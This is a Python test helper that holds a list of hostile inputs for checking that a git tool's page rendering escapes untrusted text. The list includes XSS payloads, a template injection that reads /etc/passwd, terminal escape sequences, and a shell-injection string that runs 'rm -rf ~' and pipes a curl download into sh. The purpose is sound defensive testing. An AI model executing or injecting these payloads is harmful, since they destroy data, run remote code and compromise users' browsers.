"""Texts that try to be more than text, and facts made of nothing else."""

from typing import Any, TypeVar, cast

from codexa_git.pages.facts import ImpactFacts, PacketFacts

Facts = TypeVar("Facts", ImpactFacts, PacketFacts)

HOSTILE = (
    "<script>alert(1)</script>",
    "</title></style></pre></section><h1>forged</h1>",
    '"><img src=x onerror=alert(1)>',
    "' onfocus=alert(1) autofocus x='",
    "<!-- codexa:begin CH-001 -->",
    "]]>--><svg/onload=alert(1)>",
    "{{ facts.__class__ }}{% include '/etc/passwd' %}{# #}",
    "javascript:alert(1)",
    "&lt;b&gt;&#x3c;script&#x3e;",
    "a\u202eb\u2066c\u200bd\ufeffe",
    "\x1b]0;owned\x07\x1b[2J\x00\x08",
    "line\nbreak\r\n# heading\n- [x] item\n\n---\n",
    "`code` **bold** [link](javascript:alert(1)) ![i](http://x.invalid/i.png) | cell |",
    "$(rm -rf ~); `id` && curl http://x.invalid | sh",
    "\ud800 lone surrogate \uffff",
    "x" * 5000,
    "+added\n-removed\n@@ -1 +1 @@\n<b>",
    "",
)


def hostile(value: Facts, text: str) -> Facts:
    """`value` with every text in it replaced by `text`, its shape kept."""
    return cast("Facts", _replaced(value, text))


def _replaced(value: object, text: str) -> object:
    if isinstance(value, str):
        return text
    if isinstance(value, tuple):
        parts: list[Any] = [_replaced(item, text) for item in value]
        return type(value)(*parts) if hasattr(value, "_fields") else tuple(parts)
    return value
